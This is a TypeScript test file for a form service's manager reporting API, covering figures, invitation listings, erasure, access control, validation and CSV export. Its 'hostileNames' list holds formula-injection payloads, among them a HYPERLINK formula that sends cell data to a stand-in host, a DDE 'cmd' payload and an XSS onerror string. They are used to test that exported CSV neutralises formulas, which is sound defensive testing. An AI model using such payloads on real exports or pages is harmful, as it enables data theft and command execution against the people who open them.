// SF-MGR-02: reports over what agents and consumers really do, as a manager asks for them over HTTP, and as the host's code does.
import type { ReportFiguresResponse, ReportInvitationsResponse } from '@tellsafe/core/wire';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { tracesOf } from '../../../../scripts/typed-traces.ts';
import { Agent, ok, sentForm, submittedForm } from '../clients.ts';
import { ACCOUNT, agents, answers, createHarness, forms, type Harness, START } from '../harness.ts';
import { maintain, WHOLE } from './compare.ts';

/** Names that a spreadsheet would calculate, or that would break a line of CSV. */
const hostileNames = [
  '=HYPERLINK("https://evil.example?"&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  'Card", "payment"',
  '＝1＋1',
  '<img src=x onerror=alert(1)>',
  'بطاقة payment',
];

const hostileForms = hostileNames.map((name, at) => ({
  ...{ id: `hostile-${at}`, name, description: 'Tell us.' },
  questions: [{ id: 'street', label: 'Street', type: 'text' }],
}));

const managers = {
  mia: { accountId: ACCOUNT, agentId: 'mia', name: 'Mia', role: 'manager' },
  amy: { accountId: ACCOUNT, agentId: 'amy', name: 'Amy', role: 'agent' },
} as const;

let harness: Harness;
beforeEach(async () => {
  harness = await createHarness('memory', {
    account: { forms: [...forms, ...hostileForms] },
    options: {
      authenticate: async (request) => {
        const name = request.headers.get('x-agent') ?? '';
        return agents[name] ?? managers[name as keyof typeof managers] ?? null;
      },
    },
  });
});
afterEach(() => harness.close());

const figures = { ...WHOLE, timeZone: 'Europe/Berlin', period: 'month' } as const;
const nothing = { declined: 0, expired: 0, revoked: 0, failed: 0 };

/** Four forms: one read, one submitted, one declined, one that runs out. */
async function four() {
  const read = await submittedForm(harness, 'card');
  harness.clock.advance(7_000);
  await read.agent.read(read.submissionId);
  await read.agent.read(read.submissionId);
  const submitted = await submittedForm(harness, 'address');
  const declined = await sentForm(harness);
  ok(await declined.device.decline());
  const expired = await sentForm(harness);
  harness.clock.advance(86_400_000);
  await maintain(harness.tellsafe);
  return { read, submitted, declined, expired };
}

describe('SF-MGR-02 a manager', () => {
  test('sees what happened, and what is behind a figure', async () => {
    const { read, submitted, declined } = await four();
    const manager = await Agent.signIn(harness, 'mia');
    const ask = async (more = {}) =>
      ok(await manager.call<ReportFiguresResponse>('POST', '/v1/reports/figures', { ...figures, ...more }));
    const { rows, complete } = await ask({ by: ['form'], cohort: 'event' });
    expect(complete).toBe(true);
    await sentForm(harness, 'code');
    expect((await ask()).complete, 'before it is counted').toBe(false);
    expect(rows).toMatchObject([
      {
        form: 'address',
        formName: 'Address',
        counts: { ...nothing, sent: 1, received: 1, viewed: 1, submitted: 1, read: 0 },
      },
      {
        ...{ form: 'card', formName: 'Card payment', medianSec: { submittedToRead: 7 } },
        counts: { ...nothing, sent: 3, viewed: 1, submitted: 1, declined: 1, expired: 1, read: 1 },
      },
    ]);
    const list = async (more = {}) => {
      const body = { ...WHOLE, measure: 'submitted', ...more };
      return ok(await manager.call<ReportInvitationsResponse>('POST', '/v1/reports/invitations', body));
    };
    const first = await list({ limit: 1 });
    expect(first.invitations).toMatchObject([
      {
        invitationId: read.invitation.id,
        form: 'card',
        agent: 'ada',
        status: 'submitted',
        at: { read: START + 7_000 },
      },
    ]);
    const second = await list({ limit: 1, cursor: first.cursor });
    expect(second.invitations.map(({ invitationId }) => invitationId)).toEqual([submitted.invitation.id]);
    const { invitations } = await list({ measure: 'declined', form: 'card' });
    expect(invitations.map(({ invitationId }) => invitationId)).toEqual([declined.invitation.id]);
    expect((await list({ measure: 'declined', form: 'address' })).invitations).toEqual([]);
    const told = JSON.stringify([rows, first, second]);
    expect(told).not.toMatch(/submissionId|sessionId|nonce/);
    expect(tracesOf(told, ['Kim', 'Infinite', answers.card.number])).toEqual([]);
  });

  test('sees no more which invitations were erased; the figures stay', async () => {
    const { read, submitted } = await four();
    const { reports, privacy } = harness.tellsafe;
    await privacy.eraseConversation({ accountId: ACCOUNT, conversationId: read.conversationId });
    await maintain(harness.tellsafe);
    const { rows } = await reports.query({ accountId: ACCOUNT, ...figures });
    expect(rows.map(({ counts }) => counts.submitted).reduce((sum, one) => sum + one)).toBe(2);
    const { invitations } = await reports.invitations({ accountId: ACCOUNT, ...WHOLE, measure: 'submitted' });
    expect(invitations.map(({ invitationId }) => invitationId)).toEqual([submitted.invitation.id]);
    const { records } = harness.stores;
    const facts = await records.list({ account: ACCOUNT, group: 'reports', collection: 'report-fact:1', limit: 1000 });
    expect(facts.records.length).toBeGreaterThan(0);
    for (const { id, body } of facts.records) {
      expect(`${id} ${Buffer.from(body)}`).not.toContain(read.invitation.id);
    }
  });

  test('of another account sees nothing of this one, and an agent nothing at all', async () => {
    await four();
    const elsewhere = { accountId: 'globex', ...figures };
    const { rows } = await harness.tellsafe.reports.query(elsewhere);
    expect(rows.every(({ counts }) => counts.sent === 0)).toBe(true);
    await expect(harness.tellsafe.reports.query({ ...elsewhere, accountId: 'nobody' })).rejects.toMatchObject({
      code: 'account_unknown',
    });
    const agent = await Agent.signIn(harness, 'amy');
    for (const path of ['figures', 'csv']) {
      const refused = await agent.call('POST', `/v1/reports/${path}`, figures);
      expect(refused).toMatchObject({ status: 403, body: { code: 'permission_denied' } });
    }
  });

  test.each([
    ['timeZone', { timeZone: 'Mars/Olympus' }],
    ['timeZone', { timeZone: '+01:00' }],
    ['to', { to: figures.from }],
    ['to', { to: figures.from + 20 * 366 * 86_400_000 }],
    ['to', { to: figures.from + 367 * 86_400_000, period: 'whole' }],
    ['from', { from: figures.from + 1 }],
    ['cursor', { cursor: 'nonsense' }],
    ['cursor', { cursor: Buffer.from('[1]').toString('base64url') }],
    ['cursor', { cursor: Buffer.from(`[${START},{}]`).toString('base64url') }],
    ['by', { by: ['form', 'form'] }],
    ['limit', { limit: 1001 }],
  ])('is told that %s cannot be: %o', async (path, wrong) => {
    const manager = await Agent.signIn(harness, 'mia');
    const answer = await manager.call('POST', '/v1/reports/figures', { ...figures, ...wrong });
    expect(answer).toMatchObject({ status: 400, body: { code: 'request_invalid', issues: [{ path }] } });
  });

  test('is told that a cursor of another list cannot be', async () => {
    const query = { accountId: ACCOUNT, ...WHOLE, measure: 'sent', cursor: 'nonsense' } as const;
    await expect(harness.tellsafe.reports.invitations(query)).rejects.toMatchObject({ code: 'request_invalid' });
  });
});

describe('T20 SF-MGR-02 CSV', () => {
  /** Cells by RFC 4180, read without the code that wrote them. */
  const cellsOf = (text: string): string[][] =>
    text
      .split('\r\n')
      .slice(0, -1)
      .map((line) =>
        [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
          ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
        ),
      );

  test('has every name whole, and no formula, page by page and over HTTP', async () => {
    for (const { id } of hostileForms) await sentForm(harness, id);
    await maintain(harness.tellsafe);
    let text = '';
    const query = { ...figures, by: ['form', 'agent'] as const, limit: 3 };
    for await (const part of harness.tellsafe.reports.csv({ accountId: ACCOUNT, ...query, by: [...query.by] }))
      text += part;
    const [head = [], ...lines] = cellsOf(text);
    expect(head.slice(0, 6)).toEqual(['start', 'end', 'form', 'formName', 'agent', 'agentName']);
    expect(lines.map((cells) => cells[head.indexOf('formName')]?.replace(/^'/, ''))).toEqual(hostileNames);
    for (const cells of [head, ...lines]) {
      expect(cells).toHaveLength(head.length);
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
    const manager = await Agent.signIn(harness, 'mia');
    const whole = ok(await manager.call<{ text: string }>('POST', '/v1/reports/csv', { ...query, limit: 1000 }));
    expect(whole.text).toBe(text);
  });
});
